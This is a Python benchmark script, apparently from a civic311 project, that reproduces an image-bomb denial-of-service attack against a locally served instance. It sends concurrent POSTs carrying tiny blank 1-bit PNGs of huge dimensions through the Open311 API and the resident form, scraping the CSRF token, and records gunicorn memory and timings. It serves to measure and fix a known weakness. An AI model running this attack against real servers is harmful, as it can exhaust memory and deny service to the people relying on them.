"""The cheap-image attack of issue 13, item 3, against a served civic311 (not a test).

Eight POSTs at once, three photos each, through the GeoReport API and the resident form;
prints how long each POST took and the server's memory (RSS of gunicorn's processes)
before, at its peak and after. See docs/abuse-images.md for the figures and the command.

    .venv/bin/python -m bench.abuse_images --url http://127.0.0.1:18721 --api-key live_… \
        --pid $(cat gunicorn.pid) [--side 6300] [--posts 8]
"""

from __future__ import annotations

import argparse
import io
import re
import threading
import time
import urllib.parse
import uuid
from concurrent.futures import ThreadPoolExecutor
from http.client import HTTPConnection
from http.cookiejar import CookieJar
from pathlib import Path
from urllib.request import HTTPCookieProcessor, build_opener

from PIL import Image

VEHICLE = "4ffa4c69601827691b000018"  # abandoned vehicle
POTHOLE = "4fd3b656e750846c53000004"


def one_bit_png(side: int) -> bytes:
    """The attack image: a blank 1-bit PNG, a few kilobytes for side² pixels."""
    out = io.BytesIO()
    Image.new("1", (side, side)).save(out, "PNG", optimize=True)
    return out.getvalue()


def multipart(fields: dict[str, str], photos: list[tuple[str, str, bytes]]) -> tuple[bytes, str]:
    """A multipart/form-data body and its content type."""
    boundary = uuid.uuid4().hex
    parts = []
    for name, value in fields.items():
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n')
        parts.append(f"{value}\r\n")
    body = "".join(parts).encode()
    for field, filename, data in photos:
        body += (
            (
                f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"; '
                f'filename="{filename}"\r\nContent-Type: image/png\r\n\r\n'
            ).encode()
            + data
            + b"\r\n"
        )
    body += f"--{boundary}--\r\n".encode()
    return body, f"multipart/form-data; boundary={boundary}"


def rss_mb(master_pid: int) -> float:
    """Resident memory of gunicorn's master and its workers, in MB."""
    pids = [master_pid]
    children = Path(f"/proc/{master_pid}/task/{master_pid}/children")
    if children.exists():
        pids += [int(p) for p in children.read_text().split()]
    total_kb = 0
    for pid in pids:
        status = Path(f"/proc/{pid}/status")
        if status.exists():
            found = re.search(r"VmRSS:\s+(\d+) kB", status.read_text())
            total_kb += int(found[1]) if found else 0
    return total_kb / 1024


def api_post(url: str, api_key: str, image: bytes, index: int) -> tuple[int, float]:
    """One GeoReport POST with three attack photos; (status, seconds)."""
    fields = {
        "api_key": api_key,
        "service_code": VEHICLE,
        "lat": "41.9484",
        "long": "-87.6553",
        "attribute[HOWMANYD]": "14",
        "attribute[FQSKA3]": "BLU",
    }
    photos = [("media", f"scan{index}-{n}.png", image) for n in range(3)]
    body, content_type = multipart(fields, photos)
    return _post(url, "/open311/v2/requests.json", body, {"Content-Type": content_type})


def form_post(url: str, image: bytes, index: int) -> tuple[int, float]:
    """One resident-form POST (with its CSRF token) carrying three attack photos."""
    jar = CookieJar()
    opener = build_opener(HTTPCookieProcessor(jar))
    page = opener.open(f"{url}/report/{POTHOLE}/").read().decode()
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page)[1]
    cookie = "; ".join(f"{c.name}={c.value}" for c in jar)
    fields = {
        "csrfmiddlewaretoken": token,
        "attr_WHEREIST": "CURB",
        "address": "121 N LaSalle St",
        "lat": "41.8838",
        "long": "-87.6320",
        "description": f"Deep hole {index}",
    }
    photos = [("photos", f"scan{index}-{n}.png", image) for n in range(3)]
    body, content_type = multipart(fields, photos)
    headers = {"Content-Type": content_type, "Cookie": cookie, "Referer": f"{url}/report/"}
    return _post(url, f"/report/{POTHOLE}/", body, headers)


def _post(url: str, path: str, body: bytes, headers: dict[str, str]) -> tuple[int, float]:
    where = urllib.parse.urlsplit(url)
    connection = HTTPConnection(where.hostname, where.port, timeout=120)
    started = time.perf_counter()
    connection.request("POST", path, body=body, headers=headers)
    response = connection.getresponse()
    response.read()
    connection.close()
    return response.status, time.perf_counter() - started


def attack(args: argparse.Namespace, kind: str, image: bytes) -> None:
    """Send args.posts POSTs at once and print the timings and memory."""
    before = rss_mb(args.pid)
    peak = [before]
    done = threading.Event()

    def watch() -> None:
        while not done.is_set():
            peak[0] = max(peak[0], rss_mb(args.pid))
            time.sleep(0.05)

    watcher = threading.Thread(target=watch)
    watcher.start()
    started = time.perf_counter()
    with ThreadPoolExecutor(args.posts) as pool:
        if kind == "api":
            futures = [
                pool.submit(api_post, args.url, args.api_key, image, i) for i in range(args.posts)
            ]
        else:
            futures = [pool.submit(form_post, args.url, image, i) for i in range(args.posts)]
        results = [f.result() for f in futures]
    wall = time.perf_counter() - started
    time.sleep(1)
    done.set()
    watcher.join()
    after = rss_mb(args.pid)
    statuses = sorted({status for status, _ in results})
    slowest = max(seconds for _, seconds in results)
    print(
        f"{kind}: {args.posts} POSTs x 3 photos of {args.side}x{args.side} ({len(image)} bytes): "
        f"statuses {statuses}, slowest {slowest:.2f} s, all done in {wall:.2f} s; "
        f"RSS before {before:.0f} MB, peak {peak[0]:.0f} MB (+{peak[0] - before:.0f}), "
        f"after {after:.0f} MB (+{after - before:.0f})"
    )


def main() -> None:
    """Run the attack through the API and the resident form."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--url", default="http://127.0.0.1:18721")
    parser.add_argument("--api-key", required=True)
    parser.add_argument("--pid", type=int, required=True, help="gunicorn master's pid")
    parser.add_argument("--side", type=int, default=6300)
    parser.add_argument("--posts", type=int, default=8)
    parser.add_argument("--only", choices=["api", "form"])
    args = parser.parse_args()
    image = one_bit_png(args.side)
    for kind in ["api", "form"]:
        if args.only in (None, kind):
            attack(args, kind, image)


if __name__ == "__main__":
    main()
